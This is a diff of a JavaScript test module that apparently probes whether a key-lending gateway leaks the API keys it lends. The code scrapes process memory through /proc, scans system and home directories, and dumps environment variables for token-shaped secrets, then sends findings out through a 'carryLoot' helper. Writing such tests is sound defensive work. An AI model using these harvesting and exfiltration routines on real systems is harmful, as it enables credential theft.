@@ -1,11 +1,12 @@
 /** Attempts to get at a secret that the gateway lends, or to have it sent where it may not go. */
-import { closeSync, openSync, readFileSync, readdirSync, readSync, statSync, writeFileSync } from 'node:fs';
+import { writeFileSync } from 'node:fs';
 import { request } from 'node:http';
 import { join } from 'node:path';
 import { text } from 'node:stream/consumers';
 import { connect as connectTls } from 'node:tls';
-import { ownDir, processes } from './files.mjs';
+import { ownDir } from './files.mjs';
 import { carryLoot, ofAllProcesses, withOwnProcess } from './loot.mjs';
+import { fileTexts, memoryTexts } from './search.mjs';
 import { carryHome, tunnel } from './wire.mjs';
 
 const SLOT = 'x-api-key';
@@ -82,10 +83,17 @@ const own = (headersOf) => ({
   control: lent,
 });
 
+/** What was found is said as well: by any way that is looked at, the gateway keeps back what it lends. */
+async function tell(t, text) {
+  const met = await carryLoot(t, text).catch(({ message }) => message);
+  const loot = text.match(/bbl[0-9a-f]{24}/g) ?? [];
+  throw new Error([...new Set(loot), met].filter(Boolean).join(', '));
+}
+
 /** The word of the control is looked for in the same way. */
 const finding = (textOf) => ({
   alone: true,
-  attack: async (t) => await carryLoot(t, await textOf()),
+  attack: async (t) => await tell(t, await textOf()),
   control: async (t, nonce) =>
     await withOwnProcess(nonce, async () => {
       writeFileSync(join(ownDir(), 'own'), nonce);
@@ -95,104 +103,20 @@ const finding = (textOf) => ({
 });
 
 const WORD = /bb[nl][0-9a-f]{24}/g;
-const MOST_OF_REGION = 8 * 1024 * 1024;
-const MOST_OF_ALL = 64 * 1024 * 1024;
 
-/** Every word in the memory of the processes here that can be read, their stacks first, as arguments and variables lie there. */
-function wordsInMemory() {
+/** Every word in these texts. */
+function wordsIn(texts) {
   const words = new Set();
-  let left = MOST_OF_ALL;
-  for (const pid of processes()) {
-    for (const [from, length] of regions(pid)) {
-      if (left <= 0) break;
-      const bytes = bytesOf(`/proc/${pid}/mem`, from, length);
-      left -= bytes.length;
-      for (const [word] of bytes.toString('latin1').matchAll(WORD)) words.add(word);
-    }
-  }
+  for (const text of texts) for (const [word] of text.matchAll(WORD)) words.add(word);
   return [...words].join('\n');
 }
 
-function regions(pid) {
-  try {
-    return readFileSync(`/proc/${pid}/maps`, 'utf8')
-      .split('\n')
-      .filter((line) => / rw/.test(line))
-      .map((line) => line.match(/^([0-9a-f]+)-([0-9a-f]+) .*?(\[stack\])?$/))
-      .filter(Boolean)
-      .sort((one, other) => Number(other[3] !== undefined) - Number(one[3] !== undefined))
-      .map(([, from, to]) => [
-        parseInt(from, 16),
-        Math.min(parseInt(to, 16) - parseInt(from, 16), MOST_OF_REGION),
-      ]);
-  } catch {
-    return [];
-  }
-}
-
-function bytesOf(path, at, length) {
-  let file;
-  try {
-    file = openSync(path, 'r');
-    const bytes = Buffer.alloc(length);
-    return bytes.subarray(0, readSync(file, bytes, 0, length, at));
-  } catch {
-    return Buffer.alloc(0);
-  } finally {
-    if (file !== undefined) closeSync(file);
-  }
-}
-
-const MOST_FILES = 4_000;
-const MOST_OF_FILE = 256 * 1024;
-
-/** Every word in small files of the places that programs are configured in, without following links. */
-function wordsInFiles() {
-  const queue = [
-    process.env.HOME,
-    '/tmp',
-    '/run',
-    '/etc',
-    '/work',
-    '/var',
-    '/dev/shm',
-    '/opt',
-    '/srv',
-    '/mnt',
-    '/root',
-  ];
-  const words = new Set();
-  for (let seen = 0; queue.length > 0 && seen < MOST_FILES;) {
-    const dir = queue.shift();
-    for (const entry of entriesOf(dir)) {
-      const path = join(dir, entry.name);
-      if (entry.isDirectory()) queue.push(path);
-      if (!entry.isFile() || seen++ > MOST_FILES) continue;
-      for (const [word] of startOf(path).matchAll(WORD)) words.add(word);
-    }
-  }
-  return [...words].join('\n');
-}
-
-function entriesOf(dir) {
-  try {
-    return dir === undefined ? [] : readdirSync(dir, { withFileTypes: true });
-  } catch {
-    return [];
-  }
-}
-
-function startOf(path) {
-  try {
-    return statSync(path).size > MOST_OF_FILE ? '' : readFileSync(path, 'latin1');
-  } catch {
-    return '';
-  }
-}
+const wordsInMemory = () => wordsIn(memoryTexts());
+const wordsInFiles = () => wordsIn(fileTexts());
 
 export const SECRETS = {
   'secret-environment': {
-    attack: async (t) => await carryLoot(t, JSON.stringify(process.env)),
+    attack: async (t) => await tell(t, JSON.stringify(process.env)),
     control: async (t, nonce) => await carryHome(t, { ...process.env, WORD: nonce }.WORD),
   },
   'secret-proc-environ': finding(() => ofAllProcesses('environ')),
